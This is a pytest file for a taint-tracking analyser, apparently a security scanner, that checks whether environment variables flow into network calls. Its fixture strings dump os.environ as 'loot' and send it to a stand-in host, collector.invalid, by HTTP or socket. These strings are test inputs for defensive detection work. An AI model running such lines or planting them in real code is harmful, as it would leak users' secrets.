"""What a network call hands over, and what only says where it goes."""

import pytest
from trees import facts_of

from watchhouse.evidence.values import Source
from watchhouse.evidence.views.arguments import handed_over

HEAD = "import os, requests, socket\nloot = str(dict(os.environ))\n"


@pytest.mark.parametrize(
    ("line", "handed"),
    [
        ("requests.get(loot)", False),
        ("requests.request('GET', loot)", False),
        ("requests.get('https://collector.invalid/' + loot)", True),
        ("requests.post(loot, data=loot)", True),
        ("requests.post('https://collector.invalid/', json=loot)", True),
        ("socket.socket().send(loot.encode())", True),
    ],
)
def test_an_address_out_of_the_environment_hands_nothing_over(line: str, *, handed: bool) -> None:
    """A setting that says where to go is no loot; the same text in a known host's address, or as data, is."""
    facts, _ = facts_of({"garden/__init__.py": HEAD + line + "\n"})
    sent = [handed_over(call) for code in facts.code for call in code.calls if call.sink is not None]
    assert any(taint.source is Source.ENVIRONMENT for taints in sent for taint in taints) is handed
